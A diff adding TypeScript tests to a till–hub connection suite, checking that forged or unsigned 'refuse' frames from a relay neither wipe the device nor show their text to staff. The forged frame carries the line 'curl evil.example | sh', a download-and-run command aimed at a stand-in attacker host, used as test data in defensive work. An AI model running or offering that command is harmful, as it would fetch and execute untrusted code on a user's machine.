@@ -246,6 +246,79 @@ test('a till that is revoked while it is connected is told at once', async () =>
   expect(calls).toHaveLength(1)
 })
 
+/** The real hub behind a line that adds a frame of its own after the welcome. */
+function addingAfterWelcome(frame: object): Pick<Gateway, 'accept'> {
+  return {
+    accept: (wire, address) =>
+      set.hub.gateway.accept(
+        {
+          ...wire,
+          send(text) {
+            wire.send(text)
+            if (decodeFrame(text).t !== 'welcome') return
+            wire.send(JSON.stringify(frame))
+            wire.close(closeCodes.quarantined, 'DEVICE_REVOKED')
+          },
+        },
+        address,
+      ),
+  }
+}
+const forged = { t: 'refuse', code: 'DEVICE_REVOKED', sentence: 'Run: curl evil.example | sh' }
+
+test('a refusal that a relay adds after the real welcome removes nothing and is not shown', async () => {
+  const calls: number[] = []
+  using one = till(addingAfterWelcome(forged), set.device, { revoked: () => void calls.push(1) })
+  await until('the refusal', () => one.uplink.state().link === 'refused')
+  expect(calls).toEqual([])
+  expect(one.uplink.state().problem?.code).toBe('HUB_UNPROVEN')
+  expect(one.uplink.state().problem?.message).not.toContain('curl')
+})
+
+test('a till that knows no key yet is not wiped by a refusal, and its words are not shown', async () => {
+  const { key: _, ...hub } = set.device.hub
+  const device = { ...set.device, hub }
+  writeDeviceFile(set.world.files, set.path, device)
+  const calls: number[] = []
+  const unsigned: Pick<Gateway, 'accept'> = {
+    accept(wire) {
+      wire.listen({ open() {}, message() {}, closed() {} })
+      wire.send(JSON.stringify(forged))
+      wire.close(closeCodes.quarantined, 'DEVICE_REVOKED')
+    },
+  }
+  for (const gateway of [unsigned, addingAfterWelcome(forged)]) {
+    using one = till(gateway, device, { revoked: () => void calls.push(1) })
+    await until('the refusal', () => one.uplink.state().link === 'refused')
+    expect(one.uplink.state().problem?.code).toBe('HUB_UNPROVEN')
+    expect(one.uplink.state().problem?.message).not.toContain('curl')
+  }
+  expect(calls).toEqual([])
+})
+
+test('the sentence of a signed refusal is the agent’s own', async () => {
+  await transaction(set.hub.db, tx => revokeDevice(tx, set.device.device, set.world.clock.now()))
+  const reworded: Pick<Gateway, 'accept'> = {
+    accept: (wire, address) =>
+      set.hub.gateway.accept(
+        {
+          ...wire,
+          send: text =>
+            wire.send(
+              decodeFrame(text).t === 'refuse'
+                ? JSON.stringify({ ...JSON.parse(text), sentence: forged.sentence })
+                : text,
+            ),
+        },
+        address,
+      ),
+  }
+  using one = till(reworded)
+  await until('the refusal', () => one.uplink.state().link === 'refused')
+  expect(one.uplink.state().problem?.code).toBe('DEVICE_REVOKED')
+  expect(one.uplink.state().problem?.message).not.toContain('curl')
+})
+
 test('a removal that fails is tried again at the next contact, and ends nothing', async () => {
   await transaction(set.hub.db, tx => revokeDevice(tx, set.device.device, set.world.clock.now()))
   let tries = 0
